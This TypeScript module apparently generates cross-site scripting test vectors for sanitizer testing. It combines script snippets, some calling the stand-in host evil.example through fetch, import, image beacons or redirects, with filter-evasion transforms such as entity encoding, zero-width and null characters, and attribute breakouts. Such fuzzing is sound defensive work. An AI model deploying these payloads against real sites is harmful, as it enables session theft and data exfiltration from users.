import { known } from './known';

/** What runs: it tells the page that counts, or asks a host that nobody knows. */
const scripts: readonly string[] = [
  'ran(#)',
  'top.ran(#)',
  'window[`ran`](#)',
  'fetch(`//evil.example/#`)',
  'import(`//evil.example/#.js`)',
  'new(Image)().src=`//evil.example/#.png`',
  'location=`//evil.example/#`',
  'setTimeout`ran\\x28#\\x29`',
];

/** What filters were got round by. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<([a-z]+)/gi, (_, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replace(/ on/g, '/on'),
  (text) => text.replace(/ on/g, '\u000con'),
  (text) => text.replace(/</g, '<\u200b'),
  (text) => text.replace(/javascript/gi, 'java\u0000script'),
  (text) => text.replace(/[<>]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => text.replace(/[<>]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/</g, '\uff1c'),
  (text) => `">${text}`,
  (text) => `' ${text} '`,
  (text) => `<p>${text}</p>`,
  (text) => `<div><div>${text}`,
  (text) => `**${text}**`,
  (text) => `\u202e${text}`,
  (text) => text.replace(/[()]/g, (sign) => (sign === '(' ? '&lpar;' : '&rpar;')),
];

/** So many different hostile texts, the known ones first; each holds the mark `zq` and its number. */
export function makeVectors(count: number): readonly string[] {
  return Array.from({ length: count }, (_, at) => {
    const round = Math.floor(at / known.length);
    const text = known[at % known.length] ?? '';
    const script = scripts[(at + round) % scripts.length] ?? '';
    const disguise = disguises[round % disguises.length] ?? String;
    const further = disguises[Math.floor(round / disguises.length) % disguises.length] ?? String;
    return `zq${at} ${further(disguise(text.replaceAll('§', script)))}`.replaceAll('#', `${at}`);
  });
}
